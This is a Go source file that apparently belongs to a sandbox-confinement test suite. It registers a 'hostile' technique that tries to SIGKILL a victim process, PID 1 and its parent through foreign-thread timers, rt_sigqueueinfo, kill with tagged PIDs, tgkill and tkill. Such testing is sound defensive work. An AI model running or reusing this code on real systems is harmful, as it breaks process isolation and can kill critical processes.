package main

import (
	"syscall"
	"time"
	"unsafe"

	"example.com/hostile/attack"
)

func init() { techniques["aimedtimer"] = tryAimedTimer }

// tryAimedTimer creates timers that signal a thread of another process (SIGEV_THREAD_ID). It also signals other
// processes by calls that are allowed only for the own process: with the upper half of the process ID set, and by
// process group.
func tryAimedTimer() {
	self := uintptr(syscall.Getpid())
	for _, way := range attack.Ways {
		for _, thread := range []uintptr{attack.Victim(), 1, uintptr(syscall.Getppid())} {
			if thread == self || thread == 0 { // in a machine, the program is process 1
				continue
			}
			event := [8]uint64{0, 9 | 4<<32, uint64(thread)} // sigev_value; SIGKILL and SIGEV_THREAD_ID; the thread
			var id int32
			for _, clock := range []uintptr{0, 1, 2, 3, 7, 9, ^uintptr(1), ^uintptr(5)} {
				if way(syscall.SYS_TIMER_CREATE, clock, uintptr(unsafe.Pointer(&event)), uintptr(unsafe.Pointer(&id)), 0, 0, 0) == 0 {
					println("a timer aimed at a thread of another process")
					way(syscall.SYS_TIMER_SETTIME, uintptr(id), 0, attack.Words(0, 0, 0, 1), 0, 0, 0)
				}
			}
			info := attack.Words(9, ^uintptr(0), 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
			for _, to := range []uintptr{thread, -thread, self<<32 | thread} {
				if to == self {
					continue
				}
				way(129, to, 9, info, 0, 0, 0)
				way(syscall.SYS_KILL, to, 9, 0, 0, 0, 0)
			}
			way(syscall.SYS_TGKILL, self, thread, 9, 0, 0, 0)
			way(syscall.SYS_TKILL, thread, 9, 0, 0, 0, 0)
		}
	}
	time.Sleep(10 * time.Millisecond) // time for a timer to expire
}
